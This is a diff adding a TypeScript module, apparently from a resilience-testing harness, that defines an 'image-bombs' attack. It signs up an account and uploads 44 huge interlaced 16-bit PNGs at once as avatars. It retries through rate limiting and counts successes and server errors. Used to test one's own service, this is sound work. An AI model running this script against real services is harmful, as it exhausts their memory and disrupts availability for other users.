@@ -1,0 +1,60 @@
+import { setTimeout as wait } from 'node:timers/promises'
+import type { Attack } from '../attack.ts'
+import type { Answer } from '../browser.ts'
+import { MB } from '../figure.ts'
+import { sendFile, signUp, ticketFor } from '../member.ts'
+import { networkOfAccount } from '../networks.ts'
+import { stopwatch } from '../stopwatch.ts'
+
+const IMAGES = 44
+const SECONDS = 45
+
+export const imageBombs: Attack = {
+  name: 'image-bombs',
+  summary: `${IMAGES} interlaced 16-bit PNGs of 40 megapixels as avatars, at once`,
+  attacker: 'account',
+  memoryGoal: 400,
+  clips: true,
+  prepare: ({ media }) => media.bomb(),
+  async run({ target, media }) {
+    const bomb = await media.bomb()
+    const member = await signUp(target.origin, networkOfAccount(0))
+    const ticket = await ticketFor(member, 'avatars')
+    const time = stopwatch()
+    const answers = await Promise.all(
+      Array.from({ length: IMAGES }, async () => {
+        for (;;) {
+          const answer: Answer = await sendFile(member, ticket, bomb)
+          if (answer.status !== 429 || time() > SECONDS) return answer
+          await wait(500)
+        }
+      }),
+    )
+    member.browser.close()
+    const count = (is: (status: number) => boolean) =>
+      answers.filter(({ status }) => is(status)).length
+    return {
+      figures: [
+        {
+          name: `bytes of all ${IMAGES} together`,
+          value: (IMAGES * bomb.bytes.length) / MB,
+          unit: 'MB',
+          goal: null,
+        },
+        {
+          name: 'of them made into avatars',
+          value: count((it) => it === 200),
+          unit: '',
+          goal: null,
+        },
+        {
+          name: 'of them answered with 5xx',
+          value: count((it) => it >= 500),
+          unit: '',
+          goal: null,
+        },
+        { name: 'seconds until all were answered', value: time(), unit: 's', goal: null },
+      ],
+    }
+  },
+}
